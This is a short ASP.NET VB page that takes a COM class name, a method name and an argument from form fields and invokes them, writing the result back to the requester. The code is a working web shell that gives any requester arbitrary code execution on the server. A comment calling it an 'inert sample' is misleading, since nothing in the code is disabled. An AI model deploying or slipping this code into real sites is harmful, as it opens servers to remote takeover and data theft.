<%@ Page Language="VB" %>
<%-- inert sample: a VB.NET page that late-binds a COM class and a member the request names --%>
<script runat="server">
    Sub Page_Load(sender As Object, e As EventArgs)
        Dim cls As String = Request.Form("k")
        Dim target As Object = CreateObject(cls)
        Dim result As Object = CallByName(target, Request.Form("m"), CallType.Method, Request.Form("a"))
        Response.Write(result)
    End Sub
</script>
